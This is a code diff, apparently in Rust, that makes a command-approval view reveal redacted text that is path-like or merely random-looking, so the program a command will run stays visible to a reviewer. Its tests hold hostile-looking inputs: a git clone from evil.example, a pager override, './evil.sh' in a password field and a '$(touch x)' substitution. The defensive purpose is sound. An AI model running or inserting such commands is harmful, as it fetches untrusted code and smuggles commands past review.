@@ -100,7 +100,7 @@ impl<'a> Shown<'a> {
         for piece in pieces {
             match piece {
                 Piece::Kept(text) => out.push_str(text),
-                Piece::Gone { was, .. } if was.is_empty() || !was.bytes().all(is_token) => out.push_str(was),
+                Piece::Gone { was, mark } if !may_be_hidden(was, mark) => out.push_str(was),
                 Piece::Gone { was, mark } => {
                     self.has_hidden = true;
                     self.signs.extend(was.chars().filter(|sign| !sign.is_alphanumeric()));
@@ -111,6 +111,17 @@ impl<'a> Shown<'a> {
         out
     }
 }
+
+/// Whether a person can decide without seeing this. Text that is merely random is shown: a caller is free to name a program
+/// so. The same goes for what has the form of a path, wherever it stands in the piece: it may choose the program.
+fn may_be_hidden(was: &str, mark: &str) -> bool {
+    let is_path = |part: &str| ["/", "./", "../", "~"].iter().any(|start| part.starts_with(start));
+    let has_path = was.split(['=', ':', ',', '@']).any(is_path);
+    !was.is_empty() && was.bytes().all(is_token) && !has_path && mark != RANDOM
+}
+
+/// The mark of what is hidden only because it looks random.
+const RANDOM: &str = "[redacted:high-entropy]";
 
 /// What a token may consist of. None of it means anything to a shell where it stands within a word.
 fn is_token(byte: u8) -> bool {
@@ -190,6 +201,15 @@ mod tests {
             r##"{"command":"[redacted: password=\"$(touch x)\""}"##,
             r##"{"command":"make check; ls"}"##,
             r##"{"password":{"command":"touch x"},"token":["a b",null,true]}"##,
+            // Names that look random are names all the same.
+            r##"{"command":"PATH=k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/bin:/usr/bin git status"}"##,
+            r##"{"command":"k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/bin/git status"}"##,
+            r##"{"command":"bash k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s"}"##,
+            r##"{"command":"git -c core.pager=k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/x log"}"##,
+            r##"{"command":"git clone https://evil.example/k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/x.git"}"##,
+            r##"{"path":"k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s"}"##,
+            r##"{"password":"./evil.sh"}"##,
+            r##"{"token":"a:/tmp/evil"}"##,
         ];
         for sent in same {
             assert_eq!(view(sent), (sent.to_owned(), None));
